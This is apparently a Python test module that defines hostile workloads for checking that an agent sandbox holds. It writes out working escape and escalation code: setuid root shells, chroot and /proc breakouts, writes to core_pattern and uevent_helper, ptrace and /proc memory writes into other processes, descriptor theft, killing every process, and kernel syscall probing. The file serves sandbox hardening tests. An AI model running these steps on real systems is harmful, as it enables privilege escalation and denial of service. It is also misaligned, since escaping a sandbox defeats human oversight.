"""Out of the sandbox, into other processes, up to other rights."""

from __future__ import annotations

from left import assert_nothing_found

from kinds.base import Hostile, python

KINDS = [
    Hostile(
        "setuid_and_capabilities",
        "leaves programs that would run with rights of others, if anybody else could reach them",
        """
        for folder in . /logs/agent /tmp; do
            cp /bin/sh $folder/shell; chown 0:0 $folder/shell; chmod 6755 $folder/shell; chmod 1777 $folder
        done"""
        + "\n"
        + python("""
            import os
            for name in ("/app/able", "/logs/agent/able"):
                open(name, "w").write("#!/bin/sh\\n"); os.chmod(name, 0o7777)
                for key, value in (("security.capability", bytes.fromhex("0100000200000020000000000000000000000000")),
                                   ("trusted.overlay.opaque", b"y"), ("user.x", b"y" * 4000), ("security.selinux", b"x")):
                    try: os.setxattr(name, key, value)
                    except OSError: pass
            """),
    ),
    Hostile(
        "breaks_out",
        "breaks out of its root by chroot, mounts, handles and doors of /proc, to read a file of the host",
        """
        : > found.txt
        for way in "" /proc/1/root /proc/self/root /proc/1/cwd /proc/self/cwd/../.. /.. /oldroot /newroot /mnt /host; do
            cat "$way$HOST_CANARY" >> found.txt; ls "$way$HOST_PLACE" >> found.txt; done 2>/dev/null
        for what in proc sysfs devtmpfs cgroup cgroup2 debugfs tracefs securityfs bpf overlay; do
            mkdir -p /tmp/m; unshare -Urm sh -c "mount -t $what x /tmp/m && cat /tmp/m/1/root$HOST_CANARY"; done >> found.txt 2>/dev/null
        unshare -Urm sh -c "umount -l /app; umount -l /; mount -o remount,rw /usr; cat $HOST_CANARY" >> found.txt 2>/dev/null
        for door in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sysrq-trigger /proc/sys/vm/drop_caches \\
            /proc/sys/kernel/hostname /sys/kernel/uevent_helper /proc/sys/fs/binfmt_misc/register /proc/1/oom_score_adj; do
            echo "|/bin/sh -c 'touch $HOST_PLACE/ran'" > $door; done 2>/dev/null; true"""
        + "\n"
        + python("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            def note(text): open("/app/found.txt", "a").write(text)
            canary = os.environ["HOST_CANARY"]
            os.makedirs("/tmp/jail", exist_ok=True)
            if not os.fork():
                try:
                    out = os.open("/", os.O_RDONLY); os.chroot("/tmp/jail"); os.fchdir(out)
                    for _ in range(60): os.chdir("..")
                    os.chroot("."); note(open(canary).read())
                except OSError: pass
                os._exit(0)
            os.wait()
            handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0]), 64)
            for folder in ("/", "/app", "/usr"):
                where = os.open(folder, os.O_RDONLY)
                found = libc.open_by_handle_at(where, handle, os.O_RDONLY)
                if found >= 0:
                    try: note(open(f"/proc/self/fd/{found}{canary}").read())
                    except OSError: pass
            for number in range(0, 3000):  # setns into whatever can be named
                for kind in ("mnt", "user", "pid"):
                    try: handle_ = os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY)
                    except OSError: continue
                    libc.setns(handle_, 0); os.close(handle_)
            try: note(open(canary).read())
            except OSError: pass
            """),
        also=assert_nothing_found,
    ),
    Hostile(
        "reads_other_processes",
        "traces, reads and writes every process it can name, pid 1 and the way in among them, and steals their descriptors",
        python("""
            import ctypes, os
            libc = ctypes.CDLL(None, use_errno=True)
            buffer = ctypes.create_string_buffer(4096)
            known = {os.getpid(), os.getppid()}
            for pid in [*range(1, 2000), int(os.environ["HOST_PID"])]:
                if pid in known or not os.path.exists(f"/proc/{pid}"): continue
                libc.ptrace(16, pid, None, None); libc.ptrace(0x4206, pid, None, None)
                libc.kcmp(os.getpid(), pid, 0, 0, 0) if hasattr(libc, "kcmp") else None
                try:
                    memory = open(f"/proc/{pid}/mem", "r+b", 0)
                    for line in open(f"/proc/{pid}/maps"):
                        low, high = (int(x, 16) for x in line.split()[0].split("-"))
                        memory.seek(low); memory.write(bytes(64))
                except (OSError, ValueError, OverflowError): pass
                handle = libc.syscall(434, pid, 0)
                for number in range(64):
                    stolen = libc.syscall(438, handle, number, 0) if handle >= 0 else -1
                    if stolen >= 0: os.write(stolen, b"exit 0") if stolen > 2 else None
                    try:
                        with open(f"/proc/{pid}/fd/{number}", "wb", 0) as file: file.write(b"exit 0\\n")
                    except OSError: pass
            """),
        status=("completed", "agent_error"),
    ),
    Hostile(
        "kills_everybody",
        "kills every process it can name, by number and all at once: pid 1, its way in, the engine",
        """
        for signal in TERM STOP SEGV KILL; do
            for pid in 1 2 3 4 5 6 7 8 9 $PPID $HOST_PID; do kill -$signal $pid; kill -$signal -- -$pid; done
        done 2>/dev/null
        (setsid sh -c 'trap "" TERM; for i in 1 2 3 4 5 6 7 8 9; do kill -9 -1; done' &); kill -9 -1""",
        status=("completed", "agent_error"),
    ),
    Hostile(
        "kernel_doors",
        "knocks at rarely used doors of the kernel: keys, BPF, perf, io_uring, userfaultfd, modules, kexec, personality, swap",
        python("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            buffer = ctypes.create_string_buffer(4096)
            for number in (248, 249, 250, 321, 298, 323, 425, 175, 246, 313, 320, 135, 167, 163, 172, 173, 272, 308, 310, 311, 317):
                for first in (0, 1, -1):
                    if not (pid := __import__("os").fork()):
                        libc.syscall(number, first, buffer, 16, 0, 0); __import__("os")._exit(0)
                    __import__("os").waitpid(pid, 0)
            """),
    ),
    Hostile(
        "dumps_core",
        "raises its limits and dies with a core of all its memory",
        "ulimit -c unlimited; ulimit -n 1000000; python3 -c 'import os; x = bytearray(50 << 20); os.abort()'; kill -SEGV $$",
    ),
    Hostile(
        "odd_exits",
        "ends its commands in odd ways, with arguments and an environment of megabytes",
        """
        for code in 0 1 2 124 125 126 127 128 137 139 255 256; do (exit $code); done
        export BIG=$(head -c 100000 /dev/zero | tr '\\0' x); for i in $(seq 15); do export B$i=$BIG; done
        /bin/true $(seq 100000) ; env -i /bin/true; ulimit -s unlimited; /bin/echo $(seq 200000) > /dev/null
        python3 -c 'import os; os.execv("/bin/sh", [""])' ; kill -ABRT $$""",
        same_for_all=True,
    ),
]
